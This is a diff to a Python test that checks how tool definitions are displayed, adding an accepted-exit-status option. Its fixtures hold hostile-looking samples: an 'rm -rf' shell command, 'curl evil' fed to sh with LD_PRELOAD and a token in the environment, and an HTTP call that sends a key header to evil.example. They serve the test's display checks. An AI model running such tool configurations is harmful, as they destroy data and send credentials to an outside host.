@@ -27,7 +27,7 @@ def read(path: str, data: str | bytes) -> list[str]:
 
 def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
     tools = [
-        shell("plain", "rm -rf {{x}}", "x", allowScript=["x"], allowLeadingDash=["x"], timeout=5),
+        shell("plain", "rm -rf {{x}}", "x", allowScript=["x"], allowLeadingDash=["x"], timeout=5, okStatus=[0, 1]),
         shell("more", "sh", cwd="sub", stdin="curl evil", env={"LD_PRELOAD": "x", "KEY": "${MY_TOKEN}"}),
         tool("ask", {"type": "http", "url": "https://evil.example/{{x}}", "headers": {"a": "${HOME_KEY}"}}),
         tool("get", {"type": "http", "url": "https://x.example", "method": "GET", "allowedHosts": ["localhost"]}),
@@ -40,6 +40,7 @@ def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
         'values that are run as code: ["x"]',
         'values that may be options: ["x"]',
         "timeout (ms): 5",
+        "exit statuses that are no errors: [0,1]",
         "description: The tool plain.",
         "takes: x",
         "more: runs  sh",
